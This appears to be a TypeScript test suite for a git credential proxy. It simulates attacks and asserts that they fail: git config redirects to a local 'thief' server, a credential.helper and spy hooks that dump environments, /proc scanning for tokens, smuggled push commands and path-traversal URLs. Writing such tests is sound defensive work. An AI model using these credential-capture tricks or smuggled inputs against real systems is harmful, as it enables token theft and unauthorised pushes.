/** What code in a hand could try with git to get at a credential, or past a grant, and what it finds: nothing of worth. */
import { strict as assert } from "node:assert";
import { readdirSync, readFileSync } from "node:fs";
import { mkdir, writeFile } from "node:fs/promises";
import { gzipSync } from "node:zlib";
import { flushPacket, packet } from "../../../src/vault/proxy/git/pktLine.ts";
import { hasGitServer, noGitServer } from "../../fixtures/git/gitServer.ts";
import { startHttpsServer } from "../../fixtures/httpsServer.ts";
import { skipUnless } from "../../vscode/host/skip.ts";
import { formsOf, GitKit } from "./gitKit.ts";

const zero = "0".repeat(40);
const caps = "\0 report-status side-band-64k delete-refs";

describe("an attacker with git in a hand", function () {
  this.timeout(120_000);
  let kit: GitKit;

  before(function () {
    skipUnless(this, hasGitServer(), noGitServer);
  });

  beforeEach(async () => {
    kit = await GitKit.start();
    await kit.server.create("team/app");
    kit.grant(["team/app"], ["refs/heads/agent/*"]);
  });

  afterEach(() => kit.close());

  async function post(
    path: string,
    body: string | Buffer,
    more: Readonly<Record<string, string>> = {},
  ): Promise<{ status: number; text: string }> {
    const headers = {
      "x-many-hands": kit.entranceToken,
      "content-type": "application/x-git-receive-pack-request",
      ...more,
    };
    const response = await fetch(`${kit.url}/git/${kit.server.host}${path}`, {
      method: "POST",
      headers,
      body: new Uint8Array(Buffer.from(body)),
    });
    return { status: response.status, text: await response.text() };
  }

  const main = (): string => kit.server.git("team/app", "rev-parse", "main");

  it("finds no credential in argument lists and environments of git and all its children", async () => {
    await kit.server.createLarge("team/large", 24);
    kit.grant(["team/large"]);
    const running = kit.git(".", ["clone", kit.address("team/large"), "large"]);
    let seen = 0;
    const run = { isOver: false };
    const ended = running.finally(() => (run.isOver = true));
    const inEnvironment: string[] = [];
    while (!run.isOver) {
      for (const pid of readdirSync("/proc").filter((name) => /^\d+$/.test(name))) {
        const [words, variables] = ["cmdline", "environ"].map((name) => read(`/proc/${pid}/${name}`));
        if (!words!.startsWith("git") || !variables!.includes(kit.entranceToken)) continue;
        seen += 1;
        const isFound = formsOf(kit.token).some((form) => variables!.includes(form) || words!.includes(form));
        if (isFound) inEnvironment.push(words!);
        // The entrance's token is in no list that other users of the computer could read.
        assert.ok(!words!.includes(kit.entranceToken), words);
      }
      await new Promise((resolve) => setTimeout(resolve, 5));
    }
    assert.equal((await ended).code, 0);
    assert.ok(seen > 3, `${seen} looks at processes`);
    assert.deepEqual(inEnvironment, []);
  });

  it("finds nothing of worth in a trace of all that git sends and is sent", async () => {
    const { output } = await kit.git(".", ["clone", kit.address("team/app"), "a"], {
      GIT_TRACE: "1",
      GIT_TRACE_CURL: "1",
      GIT_TRACE_PACKET: "1",
      GIT_TRACE_REDACT: "0",
    });
    assert.match(output, /X-Many-Hands: /);
    for (const form of formsOf(kit.token)) assert.ok(!output.includes(form));
  });

  it("leads git elsewhere by its configuration, and what arrives there is nothing", async () => {
    const thief = await startHttpsServer((_, response) => response.writeHead(404).end(), { names: [] });
    try {
      const port = new URL(thief.origin).port;
      const tricks: readonly (readonly string[])[] = [
        [`url.http://127.0.0.1:${port}/.insteadOf=${kit.server.origin}/`],
        [`url.http://127.0.0.1:${port}/.insteadOf=${kit.address("team/app")}`],
        [`http.proxy=http://127.0.0.1:${port}`],
        [`http.${kit.url}.proxy=http://127.0.0.1:${port}`],
        [`remote.origin.proxy=http://127.0.0.1:${port}`, `remote.origin.url=${kit.address("team/app")}`],
        [`credential.helper=!f() { cat > ${kit.at("asked")}; }; f`],
        [`core.gitProxy=/bin/false`],
      ];
      for (const [at, settings] of tricks.entries()) {
        const words = settings.flatMap((setting) => ["-c", setting]);
        await kit.git(".", [...words, "clone", kit.address("team/app"), `trick${at}`]);
        // The same from a file of the hand's own.
        for (const setting of settings) {
          const split = setting.indexOf("=");
          await kit.git(".", ["config", "--global", setting.slice(0, split), setting.slice(split + 1)]);
        }
        await kit.git(".", ["clone", kit.address("team/app"), `file${at}`]);
        await writeFile(kit.at("home/.gitconfig"), "");
      }
      const all = JSON.stringify(thief.seen.map(({ rawHeaders, url }) => [url, rawHeaders]));
      for (const form of formsOf(kit.token)) assert.ok(!all.includes(form), all);
      assert.deepEqual(await kit.filesWith(...formsOf(kit.token)), []);
    } finally {
      await thief.close();
    }
  });

  it("hooks and filters of a repository find no more than git itself", async () => {
    const clone = kit.at("a");
    await kit.clone("team/app", "a");
    await mkdir(`${clone}/hooks`);
    const spy = `#!/bin/sh\nenv >> ${kit.at("spied")}\ncat >> ${kit.at("spied")}\ntr '\\0' ' ' < /proc/$PPID/cmdline >> ${kit.at("spied")}\n`;
    for (const name of ["pre-push", "reference-transaction"]) {
      await writeFile(`${clone}/hooks/${name}`, spy, { mode: 0o755 });
    }
    await kit.ok("a", "config", "core.hooksPath", "hooks");
    await kit.ok("a", "push", "origin", "HEAD:agent/x");
    const spied = readFileSync(kit.at("spied"), "utf8");
    assert.match(spied, /GIT_CONFIG_COUNT/);
    for (const form of formsOf(kit.token)) assert.ok(!spied.includes(form));
  });

  it("cannot hide a command for main in the head of a push", async () => {
    const head = main();
    const forbidden = `${head} ${zero} refs/heads/main`;
    const allowed = `${zero} ${head} refs/heads/agent/x${caps}`;
    const bodies: readonly (string | Buffer)[] = [
      Buffer.concat([packet(allowed), packet(forbidden), flushPacket]),
      Buffer.concat([packet(`${forbidden}${caps}`), flushPacket]),
      Buffer.concat([packet(allowed), packet(`shallow ${head}\n${forbidden}`), flushPacket]),
      Buffer.concat([packet(allowed), Buffer.from("0001"), packet(forbidden), flushPacket]),
      Buffer.concat([packet(allowed), Buffer.from("0004"), packet(forbidden), flushPacket]),
      Buffer.concat([
        packet(`${allowed}\n`),
        packet(`push-cert${caps}`),
        packet("certificate version 0.1\n"),
        packet(forbidden),
        packet("push-cert-end\n"),
        flushPacket,
      ]),
      Buffer.concat([packet(`${zero} ${head} refs/heads/agent/../main${caps}`), flushPacket]),
      Buffer.concat([packet(`${zero} ${head} refs/heads/agent/x\nrefs/heads/main${caps}`), flushPacket]),
      Buffer.concat([packet(allowed)]),
      "00000000",
    ];
    for (const [at, body] of bodies.entries()) {
      for (const [packed, more] of [
        [body, {}],
        [gzipSync(body), { "content-encoding": "gzip" }],
        [gzipSync(body), { "content-encoding": "x-gzip" }],
      ] as const) {
        const { text } = await post("/team/app.git/git-receive-pack", packed, more);
        assert.ok(at === bodies.length - 1 || /Many Hands: /.test(text), `${at}: ${text}`);
      }
    }
    // In two parts of gzip, of which a server may read the first alone; twice packed; packed in a way that is unknown.
    const two = Buffer.concat([gzipSync(packet(allowed)), gzipSync(Buffer.concat([packet(forbidden), flushPacket]))]);
    assert.match(
      (await post("/team/app.git/git-receive-pack", two, { "content-encoding": "gzip" })).text,
      /refs\/heads\/main/,
    );
    const whole = Buffer.concat([packet(`${forbidden}${caps}`), flushPacket]);
    for (const encoding of ["deflate", "br", "gzip, gzip", "GZIP", "gzip,identity"]) {
      assert.equal(
        (await post("/team/app.git/git-receive-pack", gzipSync(whole), { "content-encoding": encoding })).status,
        415,
        encoding,
      );
    }
    assert.equal((await post("/team/app.git/git-receive-pack", whole, { "content-encoding": "gzip" })).status, 400);
    assert.equal(main(), head);
    // Only the probe, which changes nothing, went on.
    assert.ok(
      kit.server.seen
        .filter(({ url }) => url.endsWith("/git-receive-pack"))
        .every(({ headers }) => Number(headers["content-length"]) < 40),
    );
  });

  it("a push that is packed with gzip works where it is granted", async () => {
    const body = Buffer.concat([packet(`${zero} ${main()} refs/heads/agent/z${caps}`), flushPacket]);
    const none = Buffer.concat([
      Buffer.from("PACK"),
      Buffer.from([0, 0, 0, 2, 0, 0, 0, 0]),
      Buffer.from("029d08823bd8a8eab510ad6ac75c823cfd3ed31e", "hex"),
    ]);
    const { text } = await post("/team/app.git/git-receive-pack", gzipSync(Buffer.concat([body, none])), {
      "content-encoding": "gzip",
    });
    assert.match(text, /ok refs\/heads\/agent\/z/);
    assert.equal(kit.server.git("team/app", "rev-parse", "agent/z"), main());
  });

  it("reaches no other path, service or method of the server with the credential", async () => {
    const base = `${kit.url}/git/${kit.server.host}`;
    const paths = [
      "/team/app.git/../secret.git/info/refs?service=git-upload-pack",
      "/team/app.git/%2e%2e/secret.git/info/refs?service=git-upload-pack",
      "/team/app.git%2f..%2fsecret.git/info/refs?service=git-upload-pack",
      "/team//app.git/info/refs?service=git-upload-pack",
      "/team/app.git/info/refs?service=git-upload-archive",
      "/team/app.git/info/refs?service=git-upload-pack&x=1",
      "/team/app.git/HEAD",
      "/team/app.git/objects/info/packs",
      "/team/app.git/config",
      "/api/v4/user",
      "/team/app",
      "/",
    ];
    for (const path of paths) {
      const { status } = await kit.raw(`GET ${new URL(base).pathname}${path} HTTP/1.1`);
      assert.ok(status === 400 || status === 403, `${path}: ${status}`);
    }
    for (const method of ["PUT", "DELETE", "PATCH", "OPTIONS", "HEAD"]) {
      const { status } = await kit.raw(
        `${method} ${new URL(base).pathname}/team/app.git/info/refs?service=git-upload-pack HTTP/1.1`,
      );
      assert.equal(status, 403, method);
    }
    assert.deepEqual(kit.server.seen, []);
  });

  it("sends headers that would make a server see another request or user, and they do not arrive", async () => {
    const headers = {
      "x-many-hands": kit.entranceToken,
      authorization: "Basic YTpi",
      cookie: "a=b",
      "x-forwarded-for": "1.2.3.4",
      "x-http-method-override": "DELETE",
      "x-original-url": "/team/secret.git/info/refs",
      "git-protocol": "version=2",
    };
    const response = await fetch(`${kit.url}/git/${kit.server.host}/team/app.git/info/refs?service=git-upload-pack`, {
      headers,
    });
    assert.equal(response.status, 200);
    const [seen] = kit.server.seen;
    assert.deepEqual(
      ["x-many-hands", "cookie", "x-forwarded-for", "x-http-method-override", "x-original-url"].map(
        (name) => seen?.headers[name],
      ),
      Array.from({ length: 5 }, () => undefined),
    );
    assert.equal(seen?.headers.authorization, `Basic ${btoa(`git:${kit.token}`)}`);
    assert.equal(seen?.headers["git-protocol"], "version=2");
  });

  it("is cut in the middle of a clone when the grant is revoked, and again when the entrance is closed", async () => {
    await kit.server.createLarge("team/large", 64);
    kit.grant(["team/large"]);
    const dam = await kit.dam(4 * 1024 * 1024);
    const cut = kit.git(".", ["clone", kit.address("team/large"), "large"], dam.environment);
    await dam.isFull;
    // A hand that takes nothing makes the server wait: no part of a large pack piles up on the way.
    await new Promise((resolve) => setTimeout(resolve, 1_500));
    assert.equal(kit.server.running(), 1);
    kit.authority.revoked.abort();
    dam.release();
    const { code, output } = await cut;
    assert.equal(kit.server.running(), 0);
    assert.notEqual(code, 0);
    assert.match(output, /early EOF|RPC failed|unexpected disconnect/);
    const refused = await kit.git(".", ["clone", kit.address("team/large"), "b"]);
    assert.match(refused.output, /remote: Many Hands: .*not granted/);
    kit.authority.revoked = new AbortController();
    const again = await kit.dam(4 * 1024 * 1024);
    const running = kit.git(".", ["clone", kit.address("team/large"), "c"], again.environment);
    await again.isFull;
    kit.closeEntrance();
    again.release();
    assert.notEqual((await running).code, 0);
    assert.notEqual((await kit.git(".", ["clone", kit.address("team/app"), "d"])).code, 0);
  });
});

function read(path: string): string {
  try {
    return readFileSync(path, "latin1");
  } catch {
    return "";
  }
}
